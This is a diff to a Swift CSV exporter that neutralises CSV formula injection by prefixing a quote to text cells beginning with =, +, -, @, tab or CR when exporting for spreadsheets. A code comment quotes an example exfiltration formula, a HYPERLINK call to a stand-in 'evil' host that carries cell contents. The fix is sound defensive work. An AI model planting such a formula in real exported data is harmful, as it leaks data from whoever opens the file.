@@ -44,7 +44,7 @@ enum CSV {
     }
 
     static func line(_ cells: [ReportCell]) -> [UInt8] {
-        line(cells.map(field))
+        line(cells.map { field($0) })
     }
 
     /// Appends one line of `fields` to `bytes`.
@@ -65,8 +65,14 @@ enum CSV {
         bytes.append(contentsOf: [0x0D, 0x0A])
     }
 
-    static func field(_ cell: ReportCell) -> String {
+    /// `forSpreadsheet` (the export asked for Excel's byte-order mark): text that a spreadsheet would
+    /// run as a formula (`=`, `+`, `-`, `@`, a tab or a CR first) gets a leading `'`, which Excel and
+    /// LibreOffice show as text (OWASP's advice for CSV injection). An agent can name a tag
+    /// `=HYPERLINK("https://evil/?"&A2,"詳細")`; a manager opening the export would run it. Numbers
+    /// and times are never touched, and without the mark the text goes exactly as stored.
+    static func field(_ cell: ReportCell, forSpreadsheet: Bool = false) -> String {
         switch cell {
+        case .text(let text) where forSpreadsheet && text.utf8.first.map(formulaStarts.contains) == true: "'" + text
         case .text(let text): text
         case .integer(let value): String(value)
         case .number(let value): value.isFinite ? String(value) : ""
@@ -74,6 +80,9 @@ enum CSV {
         case .null: ""
         }
     }
+
+    /// `=`, `+`, `-`, `@`, tab and CR.
+    static let formulaStarts: Set<UInt8> = [0x3D, 0x2B, 0x2D, 0x40, 0x09, 0x0D]
 
     /// One field as a line writes it (quoted when it must be).
     static func quoted(_ field: String) -> String {
